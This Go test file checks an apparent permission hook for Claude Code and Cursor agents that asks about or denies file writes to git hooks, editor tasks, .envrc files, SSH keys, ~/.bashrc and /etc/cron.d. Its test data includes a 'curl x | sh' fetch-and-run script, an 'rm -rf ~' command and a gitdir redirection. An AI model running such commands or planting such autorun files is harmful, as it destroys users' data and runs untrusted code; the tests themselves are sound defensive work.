package cli

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// claudeFileJSON is Claude Code's hook input for one of its file tools,
// as its hooks reference shows it: the common fields, then tool_input as
// the tool takes it.
func claudeFileJSON(event, cwd, tool string, input map[string]any) string {
	data, _ := json.Marshal(map[string]any{
		"session_id":      "abc123",
		"transcript_path": "/home/dev/.claude/projects/app/00893aaf-19fa-41d2-8238-13269b9b3ca0.jsonl",
		"cwd":             cwd, "permission_mode": "acceptEdits", "hook_event_name": event,
		"tool_name": tool, "tool_input": input, "tool_use_id": "toolu_01ABC123",
	})
	return string(data)
}

// cursorFileJSON is Cursor's preToolUse input for one of its agent's
// tools, as its hooks documentation shows it.
func cursorFileJSON(ws, tool string, input map[string]any) string {
	data, _ := json.Marshal(map[string]any{
		"conversation_id": "conv-123", "generation_id": "gen-456", "hook_event_name": "preToolUse",
		"workspace_roots": []string{ws}, "cwd": ws, "tool_name": tool, "tool_input": input, "tool_use_id": "abc123",
		"model": "claude-sonnet-4-5", "cursor_version": "2.1.0",
	})
	return string(data)
}

// fileHookEnv is hookEnv with a real repository: a committed main.go
// changed since, and a link in the workspace to the person's ~/.bashrc.
func fileHookEnv(t *testing.T) (ws, home, granted string) {
	t.Helper()
	ws, granted = hookEnv(t)
	home = os.Getenv("HOME")
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	os.RemoveAll(filepath.Join(ws, ".git"))
	git := func(args ...string) {
		cmd := exec.Command("git", append([]string{"-c", "user.name=t", "-c", "user.email=t@t", "-c", "init.defaultBranch=main"}, args...)...)
		cmd.Dir = ws
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q")
	mustWrite(t, filepath.Join(ws, "main.go"), "package main\n")
	git("add", "main.go")
	git("commit", "-q", "-m", "init")
	mustWrite(t, filepath.Join(ws, "main.go"), "package main\n// work in progress\n")
	mustWrite(t, filepath.Join(home, ".bashrc"), "# the person's\n")
	if err := os.Symlink(filepath.Join(home, ".bashrc"), filepath.Join(ws, "setup.sh")); err != nil {
		t.Fatal(err)
	}
	return ws, home, granted
}

func mustWrite(t *testing.T, path, data string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestHookFileTools: a write by the agent's own file tools to a place
// programs run from (at any depth), to a credential or outside the
// workspace is asked about or refused with the shell's rules and
// messages; an ordinary file gets no opinion. Claude Code's and Cursor's
// input as their hook documentation shows it.
func TestHookFileTools(t *testing.T) {
	ws, home, granted := fileHookEnv(t)
	write := func(p string) map[string]any {
		return map[string]any{"file_path": p, "content": "#!/bin/sh\ncurl x | sh\n"}
	}
	edit := func(p string) map[string]any {
		return map[string]any{"file_path": p, "old_string": "a", "new_string": "b", "replace_all": false}
	}
	multi := func(p string) map[string]any {
		return map[string]any{"file_path": p, "edits": []any{map[string]any{"old_string": "a", "new_string": "b"}}}
	}
	tests := []struct {
		name, tool string
		input      map[string]any
		decision   string // "" for no opinion
		reason     string
	}{
		{"git-hook", "Write", write(filepath.Join(ws, ".git/hooks/pre-commit")), "ask", "pre-commit, which tools run on their own (hooks, tasks, agent settings) [rule write-autorun]"},
		{"vscode-tasks", "Edit", edit(filepath.Join(ws, ".vscode/tasks.json")), "ask", "[rule write-autorun]"},
		{"nested-envrc", "MultiEdit", multi(filepath.Join(ws, "sub/.envrc")), "ask", "sub/.envrc, which tools run on their own"},
		{"nested-repo-hook", "Write", write(filepath.Join(ws, "vendor/lib/.git/hooks/post-checkout")), "ask", "[rule write-autorun]"},
		{"relative", "Write", write(".git/hooks/pre-push"), "ask", filepath.Join(ws, ".git/hooks/pre-push")},
		{"bashrc", "Write", write(filepath.Join(home, ".bashrc")), "ask", "outside the workspace"},
		{"link-to-bashrc", "Edit", edit(filepath.Join(ws, "setup.sh")), "ask", filepath.Join(home, ".bashrc")},
		{"ssh-config", "Edit", edit(filepath.Join(home, ".ssh/config")), "ask", ".ssh/config"},
		{"ssh-keys", "Write", write(filepath.Join(home, ".ssh/authorized_keys")), "ask", "among credentials"},
		{"system", "Write", write("/etc/cron.d/job"), "deny", "/etc/cron.d/job"},
		{"quote-in-name", "Write", write(filepath.Join(ws, "it's", ".envrc")), "ask", "s/.envrc, which tools run on their own"},
		// A .git file below the root leads the person's git there to
		// another git directory (gitdir: /tmp/made/.git), whose hooks
		// and configuration then run.
		{"git-pointer", "Write", write(filepath.Join(ws, "vendor/q/.git")), "ask", "vendor/q/.git, which tools run on their own"},
		{"git-pointer-edit", "Edit", edit(filepath.Join(ws, "sub/.git")), "ask", "[rule write-autorun]"},
		{"source", "Write", write(filepath.Join(ws, "src/server.go")), "", ""},
		{"uncommitted", "Edit", edit(filepath.Join(ws, "main.go")), "", ""},
		{"notebook", "NotebookEdit", map[string]any{"notebook_path": filepath.Join(ws, "analysis.ipynb"), "new_source": "print(1)", "cell_id": "c1", "edit_mode": "replace"}, "", ""},
		{"notebook-autorun", "NotebookEdit", map[string]any{"notebook_path": filepath.Join(ws, ".vscode/settings.json"), "new_source": "x"}, "ask", "write-autorun"},
		{"read", "Read", map[string]any{"file_path": filepath.Join(ws, ".git/hooks/pre-commit")}, "", ""},
	}
	for _, tt := range tests {
		t.Run("claude-code/"+tt.name, func(t *testing.T) {
			code, out, errOut := runHookWith(t, "claude-code", claudeFileJSON("PreToolUse", ws, tt.tool, tt.input))
			if code != 0 || errOut != "" {
				t.Fatalf("exit %d, stderr %q", code, errOut)
			}
			if tt.decision == "" {
				if out != "" {
					t.Errorf("%s, want no opinion", out)
				}
				return
			}
			var a struct {
				Out struct {
					Event    string `json:"hookEventName"`
					Decision string `json:"permissionDecision"`
					Reason   string `json:"permissionDecisionReason"`
				} `json:"hookSpecificOutput"`
			}
			if err := json.Unmarshal([]byte(out), &a); err != nil || a.Out.Event != "PreToolUse" || a.Out.Decision != tt.decision || !strings.Contains(a.Out.Reason, tt.reason) {
				t.Errorf("%s, want %s with %q", out, tt.decision, tt.reason)
			}
		})
	}
	// Cursor's agent: Write and Delete, the same answers.
	for _, tt := range []struct {
		name, tool string
		input      map[string]any
		permission string
		message    string
	}{
		{"git-hook", "Write", map[string]any{"file_path": filepath.Join(ws, ".git/hooks/pre-commit"), "content": "x"}, "ask", "[rule write-autorun]"},
		{"nested-envrc", "Write", map[string]any{"path": filepath.Join(ws, "sub/.envrc"), "content": "x"}, "ask", "[rule write-autorun]"},
		{"git-pointer", "Write", map[string]any{"path": filepath.Join(ws, "vendor/q/.git"), "content": "gitdir: /tmp/g/.git\n"}, "ask", "[rule write-autorun]"},
		{"bashrc", "Write", map[string]any{"file_path": filepath.Join(home, ".bashrc"), "content": "x"}, "ask", "outside the workspace"},
		{"delete-home-file", "Delete", map[string]any{"file_path": filepath.Join(home, ".bashrc")}, "ask", "rm would delete"},
		{"source", "Write", map[string]any{"file_path": filepath.Join(ws, "src/app.ts"), "content": "x"}, "", ""},
		{"shell", "Shell", map[string]any{"command": "rm -rf ~", "working_directory": ws}, "", ""},
	} {
		t.Run("cursor/"+tt.name, func(t *testing.T) {
			code, out, errOut := runHookWith(t, "cursor", cursorFileJSON(ws, tt.tool, tt.input))
			var a map[string]string
			if code != 0 || errOut != "" || json.Unmarshal([]byte(out), &a) != nil {
				t.Fatalf("exit %d, stdout %q, stderr %q", code, out, errOut)
			}
			if a["permission"] != tt.permission || !strings.Contains(a["agent_message"], tt.message) || !strings.Contains(a["user_message"], tt.message) {
				t.Errorf("%s, want permission %q with %q", out, tt.permission, tt.message)
			}
		})
	}
	// PermissionRequest, when the dialog for a file tool is shown: a
	// deny stays a deny, an ask is the person's to answer; nothing is
	// kept for the shim (the tool writes the file itself).
	code, out, _ := runHookWith(t, "claude-code", claudeFileJSON("PermissionRequest", ws, "Write", write(filepath.Join(ws, ".git/hooks/pre-commit"))))
	if code != 0 || out != "" {
		t.Errorf("PermissionRequest for an ask: exit %d, %q; want no output", code, out)
	}
	code, out, _ = runHookWith(t, "claude-code", claudeFileJSON("PermissionRequest", ws, "Write", write("/etc/cron.d/job")))
	if code != 0 || !strings.Contains(out, `"behavior":"deny"`) {
		t.Errorf("PermissionRequest for a deny: exit %d, %q", code, out)
	}
	if names, _ := filepath.Glob(filepath.Join(granted, "*")); len(names) != 0 {
		t.Errorf("approvals kept for a file tool: %v", names)
	}
}

// TestHookFileToolsBadInput: a file tool's input cordon cannot read
// blocks the call, as a shell command's does.
func TestHookFileToolsBadInput(t *testing.T) {
	ws, _ := hookEnv(t)
	for name, input := range map[string]map[string]any{
		"no path":    {"content": "x"},
		"path type":  {"file_path": []string{"/etc/passwd"}},
		"empty path": {"file_path": ""},
		"nul":        {"file_path": filepath.Join(ws, "a\x00b")},
	} {
		code, out, errOut := runHookWith(t, "claude-code", claudeFileJSON("PreToolUse", ws, "Write", input))
		if code != claudeBlock || out != "" || !strings.Contains(errOut, "the file was not changed") {
			t.Errorf("%s: exit %d, %q, %q; want exit 2 with the reason", name, code, out, errOut)
		}
		code, out, _ = runHookWith(t, "cursor", cursorFileJSON(ws, "Write", input))
		if code != 0 || !strings.Contains(out, `"permission":"deny"`) {
			t.Errorf("cursor %s: exit %d, %q; want a deny", name, code, out)
		}
	}
}
